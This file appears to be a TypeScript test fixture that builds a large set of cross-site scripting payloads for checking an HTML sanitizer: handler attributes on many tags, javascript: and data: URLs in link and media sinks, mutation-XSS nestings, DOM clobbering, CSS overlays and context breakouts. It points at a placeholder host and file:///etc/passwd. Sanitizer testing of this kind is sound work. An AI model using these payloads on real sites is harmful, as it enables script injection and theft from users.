import { readFileSync } from 'node:fs'

/** Somebody else's host; nothing may ever be asked of it. */
export const spy = 'https://spy.example'

const run = 'alert(1)'

const tags = [
  ...[
    'a',
    'abbr',
    'area',
    'article',
    'audio',
    'b',
    'base',
    'blockquote',
    'body',
    'br',
    'button',
    'canvas',
    'custom-tag',
  ],
  ...[
    'details',
    'dialog',
    'div',
    'embed',
    'fieldset',
    'fencedframe',
    'form',
    'frameset',
    'h1',
    'head',
    'html',
    'iframe',
  ],
  ...[
    'image',
    'img',
    'input',
    'isindex',
    'keygen',
    'label',
    'li',
    'link',
    'marquee',
    'math',
    'menu',
    'meta',
    'object',
  ],
  ...[
    'option',
    'output',
    'p',
    'picture',
    'portal',
    'search',
    'select',
    'slot',
    'source',
    'span',
    'style',
    'summary',
    'svg',
  ],
  ...['table', 'td', 'template', 'textarea', 'title', 'track', 'video', 'xss'],
]

const handlers = [
  ...[
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'ontoggle',
    'onpointerover',
    'onanimationstart',
    'ontransitionend',
  ],
  ...['onbegin', 'onbeforetoggle', 'onscrollend', 'onpageshow'],
]

/** Ways of writing a handler that filters have read past. */
const spellings: readonly ((handler: string) => string)[] = [
  (handler) => ` ${handler}=${run}`,
  (handler) => ` ${handler}="${run}" src=x`,
  (handler) => `/${handler}='${run}'/src=x`,
  (handler) => `\n${handler.toUpperCase()}\t=\n${run} autofocus tabindex=1`,
  (handler) => ` x="\`><img ${handler}=${run}>" src=x`,
  (handler) => `\u0000 ${handler}\u0000=${run} src`,
  (handler) => ` "="" ${handler}=${run} `,
  (handler) => ` ${handler}=&#97;lert&lpar;1&rpar; open`,
]

const handlersOnTags = tags.flatMap((tag, at) =>
  spellings.flatMap((spell, index) => {
    const handler = handlers[(at + index) % handlers.length] ?? 'onerror'
    return [
      `<${tag}${spell(handler)}>`,
      `<${tag}${spell(handlers[(at * 3 + index) % handlers.length] ?? 'onload')}></${tag}>`,
    ]
  }),
)

const addresses = [
  ...[
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    ` \u0001javascript:${run}`,
  ],
  ...[
    `javascript&colon;${run}`,
    `&#106;avascript:${run}`,
    `&#x6A&#x61vascript:${run}`,
    `java&Tab;script:${run}`,
    `java&NewLine;script&colon;${run}`,
  ],
  ...[
    `javascript://%0a${run}`,
    `vbscript:${run}`,
    `livescript:${run}`,
    `feed:javascript:${run}`,
    `view-source:javascript:${run}`,
  ],
  ...[`data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ...[
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    `data:application/xhtml+xml,<x/>`,
  ],
  ...[
    `blob:${spy}/x`,
    'file:///etc/passwd',
    'about:srcdoc',
    `filesystem:${spy}/x`,
    `${spy}/x`,
    '//spy.example/x',
    '\\\\spy.example\\x',
  ],
  ...[
    `https:spy.example/x`,
    `/\\spy.example/x`,
    `https://spy.example%2f@x`,
    `jar:${spy}!/x`,
    `intent://spy.example#Intent;end`,
  ],
]

const sinks: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">go</a>`,
  (url) => `<a href='${url}' target=_top ping="${spy}/ping" download>go</a>`,
  (url) => `<map name=m><area href="${url}" coords=0,0,9,9></map><img usemap=#m src=x>`,
  (url) => `<form action="${url}"><input type=submit autofocus></form>`,
  (url) => `<button form=f formaction="${url}">go</button>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}"><object data="${url}"></object>`,
  (url) => `<img src="${url}" srcset="${url} 2x, ${spy}/2x 3x" lowsrc="${url}" dynsrc="${url}">`,
  (url) =>
    `<svg><a xlink:href="${url}" href="${url}"><text y=9>go</text></a><use href="${url}"/><image href="${url}"/></svg>`,
  (url) =>
    `<svg><a><animate attributeName=href values="${url}"/><set attributeName=xlink:href to="${url}"/><text>go</text></a></svg>`,
  (url) => `<math href="${url}"><mtext xlink:href="${url}">go</mtext></math>`,
  (url) => `<base href="${url}"><a href=x>go</a>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<link rel=stylesheet href="${url}"><link rel=preload as=image imagesrcset="${url}">`,
  (url) =>
    `<video src="${url}" poster="${url}" autoplay><source src="${url}"><track default src="${url}"></video>`,
  (url) => `<picture><source srcset="${url}"><img src="${url}"></picture>`,
  (url) => `<table background="${url}"><td background="${url}">x</table><body background="${url}">`,
  (url) => `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q><del cite="${url}">x</del>`,
  (url) => `<script src="${url}"></script><script type=module src="${url}"></script>`,
  (url) => `<input type=image src="${url}"><input formaction="${url}" type=submit>`,
  (url) => `<div style="background:url(${url})">x</div><div style='list-style:url("${url}")'>x</div>`,
  (url) => `<figure class="wp-block-embed"><div class="wp-block-embed__wrapper">${url}</div></figure>`,
]

const urlsInSinks = addresses.flatMap((address) => sinks.map((sink) => sink(address)))

const leaves = [
  `<img src=x onerror=${run}>`,
  `<style><img src=x onerror=${run}></style>`,
  `<!--<img src="--><img src=x onerror=${run}>">`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<a title="</style><img src=x onerror=${run}>">x</a>`,
  `<img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<mglyph><style><img src=x onerror=${run}></style></mglyph>`,
  `<form><input name=parentNode><img src=x onerror=${run}></form>`,
]

const nests: readonly (readonly [string, string])[] = [
  ...([
    ['<svg>', '</svg>'],
    ['<math>', '</math>'],
    ['<template>', '</template>'],
    ['<noscript>', '</noscript>'],
  ] as const),
  ...([
    ['<style>', '</style>'],
    ['<select>', '</select>'],
    ['<table>', '</table>'],
    ['<title>', '</title>'],
  ] as const),
  ...([
    ['<textarea>', '</textarea>'],
    ['<xmp>', '</xmp>'],
    ['<noembed>', '</noembed>'],
    ['<iframe>', '</iframe>'],
  ] as const),
  ...([
    ['<svg><foreignObject>', '</foreignObject></svg>'],
    ['<svg><desc>', '</desc></svg>'],
    ['<svg><title>', '</title></svg>'],
  ] as const),
  ...([
    ['<math><mtext>', '</mtext></math>'],
    ['<math><annotation-xml encoding=text/html>', '</annotation-xml></math>'],
  ] as const),
  ...([
    ['<math><mi><table><mglyph>', '</mglyph></table></mi></math>'],
    ['<form></form><form>', '</form>'],
    ['<table><caption>', '</caption></table>'],
  ] as const),
  ...([
    ['<p><button><p>', '</button>'],
    ['<select><option><style>', '</style></option></select>'],
    ['<a><a>', '</a></a>'],
  ] as const),
]

const nested = nests.flatMap(([open, close]) =>
  leaves.flatMap((leaf, at) => {
    const [outer, end] = nests[(at * 5 + open.length) % nests.length] ?? ['', '']
    return [
      open + leaf + close,
      open + leaf,
      outer + open + leaf + close + end,
      close + open + leaf,
      open + outer + leaf,
    ]
  }),
)

const taken = [
  ...[
    'root',
    'main',
    'body',
    'head',
    'forms',
    'images',
    'links',
    'cookie',
    'title',
    'location',
    'documentElement',
    'defaultView',
  ],
  ...[
    'getElementById',
    'querySelector',
    'createElement',
    'addEventListener',
    'activeElement',
    'currentScript',
    'implementation',
  ],
  ...[
    'attributes',
    'parentNode',
    'childNodes',
    'nodeName',
    'nodeType',
    'innerHTML',
    'children',
    'removeChild',
    'ownerDocument',
  ],
  ...[
    '__SITE__',
    'trustedTypes',
    'fetch',
    'caches',
    'navigator',
    'indexedDB',
    'localStorage',
    'history',
    'name',
    'self',
    'top',
    'correction',
  ],
]

const clobbering = taken.flatMap((name) => [
  `<a id=${name}></a><a id=${name} name=x href="cid:x"></a>`,
  `<form id=${name}><input name=${name}><input name=attributes></form>`,
  `<img name=${name} id="${name}" src=x alt=x>`,
  `<iframe name=${name} srcdoc="<a id=x>"></iframe>`,
  `<object id=${name} name=${name}></object><embed name=${name}>`,
  `<p id="${name}">x</p><h2 id="${name}">x</h2><div name="${name}">x</div>`,
  `<span class="${name}" id="story-${name}" data-${name}=1 slot=${name} part=${name}>x</span>`,
])

const covers = [
  ...[
    'position:fixed;inset:0;z-index:9999',
    'position:sticky;top:0',
    'position:absolute;inset:-9999px',
    'margin:-9999px;padding:9999px',
  ],
  ...[
    `background:url(${spy}/css)`,
    `behavior:url(${spy}/htc)`,
    `-moz-binding:url(${spy}/xbl)`,
    `width:expression(${run})`,
  ],
  ...[
    'position\\00003afixed',
    'pos/**/ition:fixed',
    '\\70osition:fixed',
    'transform:scale(999)',
    'font-size:9999px',
    'all:unset',
    'display:contents',
  ],
]

const styled = covers.flatMap((css) => [
  `<div style="${css}">x</div>`,
  `<p style='${css}'>x</p>`,
  `<p style=${css.replace(/[;\s]/g, '&#59;')}>x</p>`,
  `<div title="a > b" style="${css}">x</div>`,
  `<div a='"' style="${css}" b="'">x</div>`,
  `<style>* { ${css} }</style>`,
  `<svg style="${css}"><style>* { ${css} }</style></svg>`,
  `<table style="${css}"><tr style="${css}"><td style="${css}">x</td></tr></table>`,
  `<div class="is-position-sticky has-fixed-background wp-block-cover" style="${css}">x</div>`,
  `<font style="${css}" size=7 color=red face=x>x</font>`,
])

const odd = [
  `<script>${run}</script>`,
  `<script/x>${run}</script >`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<<script>${run}//<</script>`,
  `<script type=importmap>{"imports":{"x":"${spy}/m"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${spy}/s"]}]}</script>`,
  `<link rel=prefetch href="${spy}/p"><link rel=dns-prefetch href="${spy}"><link rel=modulepreload href="${spy}/m">`,
  `<link rel=manifest href="${spy}/w"><link rel=icon href="${spy}/i">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc='&lt;img src=x onerror=${run}&gt;' sandbox="allow-scripts"></iframe>`,
  `<p is="x-evil">x</p><x-evil is=p></x-evil><button is=x-evil></button>`,
  `<dialog open>x</dialog><div popover id=pop>x</div><button popovertarget=pop>x</button>`,
  '<p contenteditable autofocus accesskey=s tabindex=1 inert draggable=true hidden>x</p>',
  `<p nonce=x integrity=x crossorigin itemscope itemprop=x onerror>x</p>`,
  `<a href="#main" accesskey=j target=_self rel=opener>x</a>`,
  `<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u001b$B<img src=x onerror=${run}>\u001b(J`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'none'"><meta name=referrer content=unsafe-url>`,
  `<meta http-equiv=set-cookie content="a=b"><meta name=viewport content="width=9">`,
  `<!doctype html><html onload=${run}><body onload=${run}>x</body></html>`,
  `<?xml-stylesheet href="${spy}/x"?><?php ${run} ?><% ${run} %>`,
  `<!ENTITY x SYSTEM "${spy}/e">&x;`,
  `<!--[if true]><script>${run}</script><![endif]-->`,
  `<!--><img src=x onerror=${run}>--><!---!><img src=x onerror=${run}>`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<svg><script>${run}</script><script href="${spy}/s"/><handler>${run}</handler></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s /><discard onbegin=${run}></svg>`,
  `<svg><filter><feImage href="${spy}/f"/></filter><pattern><image href="${spy}/g"/></pattern></svg>`,
  `<math><maction actiontype="statusline#${spy}">x</maction></math>`,
  `<object><param name=src value="${spy}/o"></object><applet code=x></applet><bgsound src="${spy}/b">`,
  `<frameset><frame src="javascript:${run}"></frameset><portal src="${spy}/p"></portal>`,
  `<input type=hidden accesskey=x onclick=${run}><keygen autofocus onfocus=${run}><isindex formaction=javascript:${run}>`,
  `<marquee onstart=${run} behavior=alternate>x</marquee><blink>x</blink>`,
  `<details open ontoggle=${run}><summary>x</summary>y</details>`,
  `<video onloadstart=${run}><source onerror=${run}></video><audio src autoplay controls onerror=${run}>`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<img src=x:x onerror\u000b=${run}><img/src="x"/onerror=${run}/>`,
  `<a href="https://spy.example/" class="embed embed-video">play</a><button data-enlarge onclick=${run}>x</button>`,
  `[embed]${spy}/x[/embed][gallery ids="1"][x_y onload="${run}"]`,
  `<plaintext><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template shadowrootmode=open><script>${run}</script><slot></slot></template>`,
  `<div><template shadowrootmode=closed><style>:host{position:fixed}</style></template></div>`,
]

const outOf = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '</script>',
  "';",
  '${',
  '{{',
  '\\u003c',
  '%3C',
  '&lt;',
  '`',
]

const brokenOut = outOf.flatMap((way) => [
  `${way}<script>${run}</script>`,
  `${way}<svg/onload=${run}>`,
  `${way} onmouseover=${run} autofocus onfocus=${run} x=`,
  `${way}<img src=x onerror=${run}>`,
  `${way}javascript:${run}`,
  `${way}constructor.constructor('${run}')()}}`,
])

const groups = { handlersOnTags, urlsInSinks, nested, clobbering, styled, odd, brokenOut }

/** Lists of others, which are not part of this project: a JSON array of strings, or a payload a line. */
const listed = (): readonly string[] => {
  const { SECURITY_PAYLOADS: file } = process.env
  if (!file) return []
  const text = readFileSync(file, 'utf8')
  return file.endsWith('.json') ? JSON.parse(text) : text.split(/\r?\n/).filter(Boolean)
}

/** Every payload once; the same each time. */
export const payloads: readonly string[] = [...new Set([...Object.values(groups).flat(), ...listed()])]
